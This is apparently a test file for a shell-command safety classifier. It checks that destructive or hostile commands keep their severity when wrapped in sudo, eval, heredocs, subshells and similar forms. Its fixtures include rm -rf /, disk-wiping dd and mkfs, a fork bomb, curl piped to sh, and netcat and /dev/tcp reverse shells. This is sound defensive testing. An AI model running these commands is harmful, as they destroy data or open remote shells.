// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
/** Texts are only ever judged here, never run. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judgeCommand } from './index.ts';

const severe = (text: string) => judgeCommand(text).filter(({ severity }) => severity !== 'medium');

describe('metamorphic', { timeout: 60_000 }, () => {
  const ORDER = ['none', 'medium', 'high', 'catastrophic'];
  const worst = (text: string) => Math.max(0, ...judgeCommand(text).map(({ severity }) => ORDER.indexOf(severity)));
  const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
  const plain = [
    'rm -rf /',
    'rm -fr ~',
    'mkfs.ext4 /dev/sdz',
    'dd if=x of=/dev/sda',
    'nc -e /bin/sh 192.0.2.1 1',
    'chmod -R 777 /',
    'reboot',
    'shred /dev/sda',
  ];
  const anyText = [
    ...plain,
    'curl x | sh',
    ':(){ :|:& };:',
    'bash -i >& /dev/tcp/192.0.2.1/1 0>&1',
    'cat x > /dev/sda',
    'echo x >> /etc/passwd',
  ];
  const wrapped: Readonly<Record<string, (text: string) => string>> = {
    sudo: (t) => `sudo -u root ${t}`,
    env: (t) => `env -i A=b ${t}`,
    nohup: (t) => `nohup nice -n 5 ${t}`,
    timeout: (t) => `timeout -k 5 10 ${t}`,
    xargs: (t) => `echo | xargs -n1 ${t}`,
    exec: (t) => `exec ${t}`,
    setsid: (t) => `setsid -w stdbuf -oL ${t}`,
    flock: (t) => `flock /tmp/l ${t}`,
    strace: (t) => `strace -f -o x ${t}`,
    busybox: (t) => `busybox ${t}`,
    find: (t) => `find . -exec ${t} \\;`,
    time: (t) => `time -p ${t}`,
    path: (t) => `/usr/bin/${t}`,
    backslash: (t) => `\\${t}`,
    quotes: (t) => `${t[0]}""${t.slice(1)}`,
    variable: (t) => `x=${t.split(' ')[0]}; $x ${t.split(' ').slice(1).join(' ')}`,
    upper: (t) => t.replace(/^\w+/, (w) => w.toUpperCase()),
    background: (t) => `${t} &`,
    pipeline: (t) => `true | ${t}`,
    doas: (t) => `doas ${t}`,
    command: (t) => `command ${t}`,
  };
  const around: Readonly<Record<string, (text: string) => string>> = {
    'bash -c': (t) => `bash -lc ${quoted(t)}`,
    'sh -c twice': (t) => `sh -c ${quoted(`sh -c ${quoted(t)}`)}`,
    eval: (t) => `eval ${quoted(t)}`,
    trap: (t) => `trap ${quoted(t)} EXIT`,
    'su -c': (t) => `su - bob -c ${quoted(t)}`,
    watch: (t) => `watch -n 1 ${quoted(t)}`,
    substitution: (t) => `echo "$(${t}\n)"`,
    if: (t) => `if true; then\n${t}\nfi`,
    else: (t) => `if x; then y; else\n${t}\nfi`,
    loop: (t) => `for i in 1; do\n${t}\ndone`,
    case: (t) => `case x in x)\n${t}\n;; esac`,
    subshell: (t) => `(${t}\n)`,
    group: (t) => `{\n${t}\n}`,
    function: (t) => `f() {\n${t}\n}\nf`,
    and: (t) => `true && { ${t}\n}`,
    procsub: (t) => `cat <(${t}\n)`,
    heredoc: (t) => `bash <<'END'\n${t}\nEND\n`,
    piped: (t) => `printf '%s' ${quoted(t)} | sh`,
    default: (t) => `echo "\${x:-$(${t}\n)}"`,
    arithmetic: (t) => `echo $(( $(${t}\n) ))`,
    written: (t) => `cat > s <<'END'\n${t}\nEND\nsh s`,
  };
  test.each(Object.keys(wrapped))('%s in front of a command never weakens the finding', (name) => {
    for (const text of plain) expect([text, worst(wrapped[name]?.(text) ?? '')]).toEqual([text, worst(text)]);
  });
  test.each(Object.keys(around))('%s around a text never weakens the finding', (name) => {
    for (const text of anyText) expect([text, worst(around[name]?.(text) ?? '')]).toEqual([text, worst(text)]);
  });
  test('wrapping twice never weakens the finding', () => {
    const makers = [...Object.values(around)];
    fc.assert(
      fc.property(
        fc.constantFrom(...anyText),
        fc.constantFrom(...makers),
        fc.constantFrom(...makers),
        (text, a, b) => worst(a(b(text))) >= worst(text),
      ),
      { numRuns: 150 },
    );
  });
  test.each<readonly [string, (text: string) => string]>([
    ['echo', (t) => `echo ${quoted(t)}`],
    ['grep', (t) => `grep -qF ${quoted(t)} file`],
    ['cat', (t) => `cat <<'END'\n${t}\nEND\n`],
    ['a comment', (t) => `# ${t}`],
    ['an assignment', (t) => `x=${quoted(t)}; echo "$x"`],
    ['a test', (t) => `[[ "$x" == ${quoted(t)} ]]`],
    ['a case pattern', (t) => `case "$x" in ${quoted(t)}) exit 2;; esac`],
  ])('as data of %s it is no severe finding', (_, wrap) => {
    for (const text of anyText) expect(severe(wrap(text))).toEqual([]);
  });
});
